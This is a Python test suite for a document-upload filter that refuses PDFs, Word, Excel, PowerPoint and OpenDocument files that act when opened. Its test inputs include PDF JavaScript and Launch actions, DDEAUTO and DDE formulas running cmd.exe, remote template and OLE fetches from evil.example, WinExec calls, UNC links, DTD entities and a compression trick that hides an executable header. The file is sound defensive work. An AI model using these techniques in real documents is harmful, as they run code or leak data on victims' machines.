"""Documents that do something when they are opened are refused; their ordinary neighbours pass."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from criteria.contents.reading import kind_of
from criteria.contents.refused import Reason, Refused
from tests.files.samples import content_types, odf, ooxml, pdf, picture

OBJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def read(content: bytes) -> str:
    return kind_of(BytesIO(content))


def reason(content: bytes) -> Reason:
    with pytest.raises(Refused) as refused:
        read(content)
    return refused.value.reason


def with_pdf(change, **saving) -> bytes:
    with pikepdf.open(BytesIO(pdf())) as document:
        change(document)
        made = BytesIO()
        document.save(made, **saving)
        return made.getvalue()


def opening(action: Dictionary):
    return lambda document: setattr(document.Root, "OpenAction", action)


def attaching(name: str, content: bytes):
    def change(document):
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)

    return change


def annotating(action: Dictionary):
    def change(document):
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
LAUNCH = Dictionary(S=Name.Launch, F="calc.exe")


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (opening(SCRIPT), Reason.PDF_ACTS),
        (opening(LAUNCH), Reason.PDF_ACTS),
        (opening(Dictionary(S=Name.URI, URI="http://a", Next=SCRIPT)), Reason.PDF_ACTS),
        (annotating(LAUNCH), Reason.PDF_ACTS),
        (annotating(Dictionary(S=Name.SubmitForm, F="http://a")), Reason.PDF_ACTS),
        (annotating(Dictionary(S=Name.GoToE, F="a.pdf")), Reason.PDF_ACTS),
        (
            annotating(Dictionary(S=Name.URI, URI="file:///C:/Windows/System32/calc.exe")),
            Reason.LINK,
        ),
        (annotating(Dictionary(S=Name.URI, URI="javascript:alert(1)")), Reason.LINK),
        (annotating(Dictionary(S=Name.GoToR, F="\\\\host\\share\\a.pdf")), Reason.LINK),
        (annotating(Dictionary(S=Name.GoToR, F=Dictionary(UF="//host/a.pdf"))), Reason.LINK),
        (attaching("a.exe", b"MZ\x90\0"), Reason.FILE_IN_PDF),
        (attaching("a.docx", ooxml()), Reason.FILE_IN_PDF),
        (attaching("a.exe", b"<a/>"), Reason.FILE_IN_PDF),
        (attaching("a.xml", b"MZ\x90\0"), Reason.FILE_IN_PDF),
        (lambda document: setattr(document.Root, "AcroForm", Dictionary(XFA="x")), Reason.FORM),
        (lambda document: document.pages.__delitem__(0), Reason.BLANK),
        (lambda document: document.pages[0].obj.__delitem__("/Contents"), Reason.BLANK),
    ],
)
@pytest.mark.parametrize("packed", ["disable", "generate"])
def test_a_pdf_that_acts_or_has_nothing_in_it_is_refused(change, why, packed):
    mode = pikepdf.ObjectStreamMode[packed]
    assert reason(with_pdf(change, object_stream_mode=mode)) == why


def test_a_name_in_disguise_is_the_same_name():
    plain = with_pdf(opening(SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert plain.count(b"/JavaScript") == 1
    hidden = plain.replace(b"/JavaScript", b"/#4a#61vaScript").replace(b"/JS", b"/#4AS")
    assert reason(hidden) == Reason.PDF_ACTS


@pytest.mark.parametrize(
    "change",
    [
        annotating(Dictionary(S=Name.URI, URI="https://namdinh.gov.vn/?a=b#c")),
        annotating(Dictionary(S=Name.URI, URI="mailto:a@example.vn")),
        annotating(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
        annotating(Dictionary(S=Name.GoToR, F="Phụ lục 1.pdf")),
        attaching("hoa-don.xml", b"<HDon><DLHDon/></HDon>"),
        lambda document: setattr(document.docinfo, "Title", "/JavaScript /Launch (/JS)"),
    ],
)
def test_an_ordinary_pdf_passes(change):
    assert read(with_pdf(change)) == "pdf"


@pytest.mark.parametrize(
    "content", [b"%PDF-1.4\n%%EOF", b"%PDF-1.7\n" + b"junk " * 400 + b"\n%%EOF"]
)
def test_a_pdf_with_nothing_in_it_is_refused(content):
    assert reason(content) in (Reason.DAMAGED_PDF, Reason.BLANK)


def relations(*given: tuple[str, str], mode: str = "External") -> str:
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for n, (kind, target) in enumerate(given)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006">{inner}</Relationships>'


def document(body: str) -> dict[str, bytes | str]:
    return {"word/document.xml": f'<w:document xmlns:w="w">{body}</w:document>'}


def part(entries: dict[str, bytes | str], kind: str = "docx") -> bytes:
    return ooxml(kind, entries)


def field(*codes: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f"{mark.format('begin')}{inner}{mark.format('separate')}1{mark.format('end')}"


@pytest.mark.parametrize(
    ("kind", "target", "why"),
    [
        ("attachedTemplate", "http://evil.example/a.dotm", Reason.FETCHES),
        ("attachedTemplate", "\\\\evil\\share\\a.dotm", Reason.FETCHES),
        ("attachedTemplate", "file://evil/share/a.dotm", Reason.FETCHES),
        ("attachedTemplate", "file:///C:/Temp/a.dotm", Reason.FETCHES),
        ("image", "https://evil.example/a.png", Reason.FETCHES),
        ("oleObject", "http://evil.example/a.hta", Reason.FETCHES),
        ("frame", "http://evil.example/", Reason.FETCHES),
        ("subDocument", "b.docx", Reason.FETCHES),
        ("mailMergeSource", "file:///C:/a.mdb", Reason.FETCHES),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe", Reason.LINK),
        ("hyperlink", "calc.exe", Reason.LINK),
        ("hyperlink", "\\\\evil\\share\\a.docx", Reason.LINK),
        ("hyperlink", "//evil/a.docx", Reason.LINK),
        ("hyperlink", "%5C%5Cevil%5Ca.docx", Reason.LINK),
        ("hyperlink", "javascript:alert(1)", Reason.LINK),
        ("hyperlink", "ms-word:ofe|u|http://evil.example/a.docx", Reason.LINK),
        ("externalLinkPath", "b.xlsx", Reason.OTHER_WORKBOOK),
    ],
)
def test_a_relationship_to_elsewhere_is_refused(kind, target, why):
    given = relations((kind, target))
    assert reason(part({"word/_rels/document.xml.rels": given})) == why
    assert reason(part({"word/_rels/document.xml.rels": given.encode("utf-16")})) == why
    if "://" in target or target.startswith("\\\\"):
        unmarked = relations((kind, target), mode="Internal")
        assert reason(part({"word/_rels/document.xml.rels": unmarked})) == why


@pytest.mark.parametrize(
    ("kind", "why"),
    [
        ("aFChunk", Reason.CHUNK),
        ("control", Reason.MACROS),
        ("vbaProject", Reason.MACROS),
        ("webextensiontaskpanes", Reason.MACROS),
        ("connections", Reason.CONNECTION),
        ("queryTable", Reason.CONNECTION),
        ("externalLink", Reason.OTHER_WORKBOOK),
    ],
)
def test_a_relationship_to_a_part_that_acts_is_refused(kind, why):
    given = relations((kind, "a.xml"), mode="Internal")
    assert reason(part({"xl/_rels/workbook.xml.rels": given}, "xlsx")) == why


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://namdinh.gov.vn/a?b=c#d"),
        ("hyperlink", "mailto:a@example.vn?subject=x"),
        ("hyperlink", "#Phu_luc"),
        ("hyperlink", "Ph%E1%BB%A5%20l%E1%BB%A5c%201.docx"),
        ("hyperlink", "../Năm 2025/Báo cáo.xlsx#Sheet1!A1"),
        (
            "attachedTemplate",
            "file:///C:\\Users\\A\\AppData\\Roaming\\Microsoft\\Templates\\CongVan.dotx",
        ),
    ],
)
def test_plain_links_pass(kind, target):
    assert read(part({"word/_rels/document.xml.rels": relations((kind, target))})) == "docx"


@pytest.mark.parametrize(
    ("entries", "why"),
    [
        (document(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), Reason.FIELD),
        (document(field("D", "DE", "AUTO", " cmd")), Reason.FIELD),
        (document(field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')), Reason.FIELD),
        (document(field('INCLUDEPICTURE "http://evil.example/a.png"')), Reason.FIELD),
        (document('<w:fldSimple w:instr=" DDE cmd "/>'), Reason.FIELD),
        (document('<x:fldSimple xmlns:x="w" x:instr="DDE cmd"/>'), Reason.FIELD),
        (document(field('HYPERLINK "file:///C:/Windows/System32/cmd.exe"')), Reason.LINK),
        (document(field("HYPER", 'LINK "\\\\evil', '\\a.docx"')), Reason.LINK),
        (document(field("HYPERLINK calc.exe")), Reason.LINK),
        (document("<w:fldSimple w:instr='HYPERLINK \"calc.exe\"'/>"), Reason.LINK),
        ({"docProps/app.xml": "<p><HyperlinkBase>\\\\evil\\a</HyperlinkBase></p>"}, Reason.LINK),
        (
            {"word/embeddings/o.bin": OBJECT + b"MZ\x90 This program cannot be run in DOS mode"},
            Reason.FILE_INSIDE,
        ),
        (document('<w:altChunk r:id="a" xmlns:r="r"/>'), Reason.CHUNK),
        (
            document('<w:pict><v:imagedata src="http://evil/a.png" xmlns:v="v"/></w:pict>'),
            Reason.FETCHES,
        ),
        (document('<v:shape xmlns:v="v" href="file:///c:/a.exe"/>'), Reason.LINK),
        ({"word/a.html": b"<html><body/></html>"}, Reason.CHUNK),
        ({"word/a.dat": b"{\\rtf1 }"}, Reason.CHUNK),
        ({"word/a.mht": b"MIME-Version: 1.0\r\n"}, Reason.CHUNK),
        ({"word/a.js": b"alert(1)"}, Reason.PROGRAM),
        ({"word/media/a.vbs": b"x"}, Reason.PROGRAM),
        ({"word/media/a.svg": b"<svg><script>alert(1)</script></svg>"}, Reason.MACROS),
        ({"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}, Reason.DTD),
        ({"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".encode("utf-16")}, Reason.DTD),
        ({"word/a.bin": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode("utf-16-be")}, Reason.DTD),
        ({"word/a.xml": b"<a>&undeclared;</a>"}, Reason.DAMAGED_XML),
        ({"word/a.xml": b'<?xml version="1.0" encoding="Shift_JIS"?><a/>'}, Reason.DAMAGED_XML),
        ({"word/a.xml": b'<?xml version="1.0" encoding="gb18030"?><a/>'}, Reason.DAMAGED_XML),
        ({"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}, Reason.DAMAGED_XML),
        ({"word/a.xml": b'<?xml version="1.0" encoding="none-such"?><a/>'}, Reason.DAMAGED_XML),
        ({"word/a.xml": b'<?xml version="1.0" encoding="\xff"?><a/>'}, Reason.DAMAGED_XML),
    ],
)
def test_a_document_of_word_that_acts_is_refused(entries, why):
    assert reason(part(entries)) == why


@pytest.mark.parametrize("encoding", ["Shift_JIS", "euc-jp", "gb18030", "utf-32"])
def test_the_list_of_parts_may_have_any_encoding_without_an_error(encoding):
    types = content_types().replace("UTF-8", encoding)
    assert reason(ooxml(types=types)) == Reason.DAMAGED_XML


def test_a_list_of_parts_in_utf_16_is_read():
    types = content_types().replace("UTF-8", "UTF-16")
    assert read(ooxml(entries={"[Content_Types].xml": types.encode("utf-16")})) == "docx"


@pytest.mark.parametrize(
    "body",
    [
        field("PAGE"),
        field(' HYPERLINK "http://example.vn/dde/a" '),
        field("HYPER", 'LINK "htt', 'p://example.vn/"', " "),
        field(' HYPERLINK \\l "_Toc1" '),
        field(' HYPERLINK "Phụ lục 1.docx" '),
        field(' TOC \\o "1-3" '),
        field("MACROBUTTON NoMacro [Bấm vào đây]"),
        '<w:fldSimple w:instr=" NUMPAGES "/>',
        "<w:t>DDEAUTO INCLUDETEXT cmd|'/c calc'!A0 &lt;script&gt;</w:t>",
        '<w:pPr><w:framePr w:w="1"/></w:pPr>',
    ],
)
def test_ordinary_fields_and_texts_pass(body):
    assert read(part(document(body))) == "docx"


def sheet(inner: str) -> dict[str, bytes | str]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><c>{inner}</c></worksheet>"}


@pytest.mark.parametrize(
    ("entries", "why"),
    [
        (sheet("<f>cmd|'/c calc'!A0</f>"), Reason.FORMULA),
        (sheet("<f>'cmd'|'/c calc'!A0</f>"), Reason.FORMULA),
        (sheet('<f>_xlfn.WEBSERVICE("http://evil/")</f>'), Reason.FORMULA),
        (sheet('<f>HYPERLINK("file:///C:/calc.exe","x")</f>'), Reason.LINK),
        (sheet('<f>IF(1,HYPERLINK("calc.exe"))</f>'), Reason.LINK),
        (sheet('<f>RTD("a",,"b")</f>'), Reason.FORMULA),
        (sheet('<f>CALL("kernel32","WinExec","JCJ","calc")</f>'), Reason.FORMULA),
        ({"xl/workbook.xml": "<w><definedName>cmd|'/c'!A0</definedName></w>"}, Reason.FORMULA),
        ({"xl/externalLinks/externalLink1.xml": "<e><ddeLink/></e>"}, Reason.FORMULA),
        (
            {"xl/connections.xml": "<c><connection><webPr url='http://a'/></connection></c>"},
            Reason.CONNECTION,
        ),
    ],
)
def test_a_workbook_that_asks_elsewhere_is_refused(entries, why):
    assert reason(part(entries, "xlsx")) == why


@pytest.mark.parametrize(
    "inner",
    [
        "<f>SUM(A1:A9)</f>",
        '<f>IF(A1="a|b","CALL(",1)</f>',
        "<f>'Quý 1|2'!A1</f>",
        '<f>HYPERLINK("#\'Quý 1\'!A1","x")</f>',
        '<f>HYPERLINK(A1,"calc.exe")</f>',
        '<f>HYPERLINK("http://example.vn","x")</f>',
        "<v>cmd|'/c calc'!A0</v>",
    ],
)
def test_ordinary_formulas_pass(inner):
    assert read(part(sheet(inner), "xlsx")) == "xlsx"


def test_a_presentation_that_runs_a_program_is_refused():
    slide = '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://{}"/></p:sld>'
    for action in ("program", "macro?name=x"):
        assert reason(part({"ppt/slides/slide1.xml": slide.format(action)}, "pptx")) == Reason.LINK
    for action in ("hlinkshowjump?jump=nextslide", "hlinksldjump", "media"):
        assert read(part({"ppt/slides/slide1.xml": slide.format(action)}, "pptx")) == "pptx"


def text(body: str) -> dict[str, bytes | str]:
    return {"content.xml": f'<o:document xmlns:o="o" xmlns:s="s" xmlns:x="x">{body}</o:document>'}


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (
            '<o:event-listener s:language="ooo:script" x:href="vnd.sun.star.script:a"/>',
            Reason.MACROS,
        ),
        ('<o:event-listener s:macro-name="a"/>', Reason.MACROS),
        ('<o:event-listener o:action="execute" x:href="calc.exe"/>', Reason.LINK),
        ('<o:a x:href="vnd.sun.star.script:a$b"/>', Reason.MACROS),
        ('<o:a x:href="file:///C:/calc.exe"/>', Reason.LINK),
        ('<o:script s:language="x">a</o:script>', Reason.MACROS),
        ('<o:image x:href="http://evil/a.png"/>', Reason.FETCHES),
        ('<o:image x:href="../a.png"/>', Reason.FETCHES),
        ('<o:floating-frame x:href="http://evil/"/>', Reason.FETCHES),
        ('<o:section-source x:href="file:///a.odt"/>', Reason.FETCHES),
        ('<o:dde-source o:dde-application="cmd"/>', Reason.CONNECTION),
        ("<o:dde-connection-decl/>", Reason.CONNECTION),
        ('<o:cell-range-source x:href="http://evil/"/>', Reason.CONNECTION),
        ('<o:table-cell o:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>', Reason.FORMULA),
        ('<o:table-cell o:formula="of:=WEBSERVICE(&quot;http://a&quot;)"/>', Reason.FORMULA),
        ("<o:applet/>", Reason.MACROS),
        ('<o:template x:href="http://evil/a.ott"/>', Reason.FETCHES),
    ],
)
def test_an_open_document_that_acts_is_refused(body, why):
    for kind in ("odt", "ods", "odp"):
        assert reason(odf(kind, text(body))) == why


@pytest.mark.parametrize(
    "body",
    [
        "<o:scripts/>",
        '<o:event-listener o:action="next-page"/>',
        '<o:a x:href="https://example.vn/"/><o:a x:href="#Sheet1.A1"/><o:a x:href="../a.ods"/>',
        '<o:image x:href="Pictures/1.png"/><o:object x:href="./Object 1"/><o:form x:href=""/>',
        '<o:template x:href="../../Templates/cong-van.ott"/>',
        '<o:table-cell o:formula="of:=SUM({1;2|3;4})"/>',
    ],
)
def test_ordinary_open_documents_pass(body):
    keys = {"Configurations2/accelerator/current.xml": '<a x="x"><i href=".uno:Bold"/></a>'}
    assert read(odf("odt", text(body) | keys)) == "odt"


def test_an_entry_does_not_hide_its_beginning_in_a_packing_of_many_pieces():
    """A first piece of one byte would tell nothing of what follows."""
    empty = b"\x00\x00\x00\xff\xff" * 14_000
    pack = zlib.compressobj(wbits=-15)
    content = b"MZ\x90\0" + bytes(60)
    first = b"\x00\x01\x00\xfe\xff" + content[:1]
    packed = empty + first + pack.compress(content[1:]) + pack.flush()
    assert reason(spliced("word/a.bin", content, packed)) == Reason.PROGRAM


def spliced(name: str, content: bytes, packed: bytes) -> bytes:
    """A document with an entry whose packed form is given."""
    made = BytesIO(ooxml())
    with zipfile.ZipFile(made, "a") as target:
        entry = zipfile.ZipInfo(name)
        target.writestr(entry, packed)  # stored, so as given
    raw = bytearray(made.getvalue())
    for mark, method in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = raw.rindex(mark)
        raw[at + method : at + method + 2] = struct.pack("<H", 8)
        struct.pack_into("<I", raw, at + method + 6, zlib.crc32(content))
        struct.pack_into("<I", raw, at + method + 14, len(content))
    return bytes(raw)


def test_a_document_with_a_good_picture_of_every_office_kind_passes():
    media = {"word/media/image1.png": picture("PNG"), "word/media/image2.jpeg": picture("JPEG")}
    assert read(part(media)) == "docx"
